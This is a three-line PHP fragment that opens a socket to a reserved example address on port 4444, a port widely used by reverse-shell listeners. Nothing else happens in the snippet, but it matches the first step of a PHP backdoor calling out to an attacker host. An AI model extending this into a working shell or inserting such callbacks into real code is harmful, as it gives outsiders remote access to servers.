<?php
// Opens a raw socket.
$fp = fsockopen("198.51.100.9", 4444);
